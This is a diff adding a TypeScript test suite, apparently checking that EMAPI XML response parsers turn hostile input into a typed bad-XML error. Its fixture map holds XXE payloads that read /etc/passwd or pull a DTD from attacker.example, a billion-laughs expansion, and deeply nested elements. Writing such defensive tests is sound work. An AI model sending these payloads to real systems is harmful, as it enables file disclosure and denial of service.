@@ -1,0 +1,52 @@
+import assert from 'node:assert/strict'
+import { describe, test } from 'node:test'
+import {
+  EmapiError, parseActionResponse, parseDeviceProfileResponse, parseDeviceUserResponse, parseUserDevicesResponse
+} from '../src/emapi/index.ts'
+
+// Issue #15.5: hostile answers used to escape the parser as plain Errors (a 500 with no audit id).
+const HOSTILE: Record<string, string> = {
+  'external entity': '<?xml version="1.0"?><!DOCTYPE response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><response><success/>&xxe;</response>',
+  'external entity, no prologue': '<!DOCTYPE response SYSTEM "http://attacker.example/emapi.dtd"><response><success/></response>',
+  'internal entity': '<!DOCTYPE response [<!ENTITY x "y">]><response><success/></response>',
+  'entity expansion (billion laughs)': '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><response><success/>&b;</response>',
+  'lower-case doctype': '<!doctype response [<!ENTITY x "y">]><response><success/></response>',
+  '50,000 nested elements': '<response>' + '<a>'.repeat(50_000) + '</a>'.repeat(50_000) + '</response>',
+  '50,000 unclosed elements': '<response>' + '<a>'.repeat(50_000),
+  '100 nested elements': '<response><success/>' + '<a>'.repeat(100) + '</a>'.repeat(100) + '</response>'
+}
+
+const PARSERS: Record<string, (body: string) => unknown> = {
+  action: parseActionResponse,
+  deviceUser: (body) => parseDeviceUserResponse(body, ['SEP001122334455']),
+  userDevices: (body) => parseUserDevicesResponse(body, ['jdoe']),
+  deviceProfile: (body) => parseDeviceProfileResponse(body, ['jdoe'])
+}
+
+describe('hostile EMAPI answers are bad XML, never another error', () => {
+  for (const [name, body] of Object.entries(HOSTILE)) {
+    test(name, () => {
+      for (const [parserName, parse] of Object.entries(PARSERS)) {
+        assert.throws(() => parse(body), (error: unknown) => {
+          assert.ok(error instanceof EmapiError, `${parserName}: ${String(error)}`)
+          assert.equal(error.code, 'EMAPI_BAD_XML')
+          assert.equal(error.responseBody, body, 'the answer is kept for the audit trail')
+          assert.ok(error.message.length < 400, `${parserName}: a readable message, not the document (${error.message.length} characters)`)
+          return true
+        })
+      }
+    })
+  }
+
+  test('the reason names the problem', () => {
+    assert.throws(() => parseActionResponse(HOSTILE['external entity'] ?? ''), /DOCTYPE/)
+    assert.throws(() => parseActionResponse(HOSTILE['50,000 nested elements'] ?? ''), /nested/)
+  })
+
+  test('real answers are as deep as EMAPI goes and still parse', () => {
+    const profiles = parseDeviceProfileResponse('<response><deviceProfileResults><user id="jdoe"><deviceProfile><deviceProfileName>P1</deviceProfileName>' +
+      '<isDefaultDeviceProfile>t</isDefaultDeviceProfile></deviceProfile></user></deviceProfileResults></response>', ['jdoe'])
+    assert.deepEqual(profiles[0]?.profiles, [{ name: 'P1', isDefault: true }])
+    assert.doesNotThrow(() => parseActionResponse('<?xml version="1.0"?>\n<response>\n<success/>\n</response>'))
+  })
+})
